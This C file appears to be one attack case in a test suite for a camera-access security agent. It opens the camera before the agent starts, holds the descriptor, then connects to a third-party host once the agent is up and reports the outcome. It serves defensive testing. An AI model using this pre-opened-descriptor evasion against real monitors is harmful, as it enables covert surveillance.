/* prior_holder.c - attack: open the camera before the agent starts, keep it, then send to a third party once the agent runs. */
#include <sys/stat.h>

#include "attack.h"

#define ROUTE "prior_holder"

/* usage: prior_holder CAMERA GO_FILE A.B.C.D:PORT - the runner creates GO_FILE once the agent is up */
int main(int argc, char **argv)
{
	struct sockaddr_storage ss;
	struct stat st;
	socklen_t len;
	int fd;

	if (argc != 4) {
		fprintf(stderr, "usage: " ROUTE " CAMERA GO_FILE A.B.C.D:PORT\n");
		return 2;
	}
	at_need_inet(ROUTE, argv[3], &ss, &len);
	/* Nothing judges this open: the agent is not running yet. The descriptor stays open. */
	fd = open(argv[1], O_RDONLY);
	if (fd < 0) {
		at_result(ROUTE, "error", "camera open before the agent: %s", at_errname(errno));
		return 1;
	}
	for (int i = 0; i < 300 && stat(argv[2], &st) < 0; i++)
		usleep(100 * 1000);
	if (stat(argv[2], &st) < 0) {
		at_result(ROUTE, "error", "the agent never started (no %s)", argv[2]);
		return 1;
	}
	return at_connect_report(ROUTE, &ss, len, SOCK_STREAM);
}
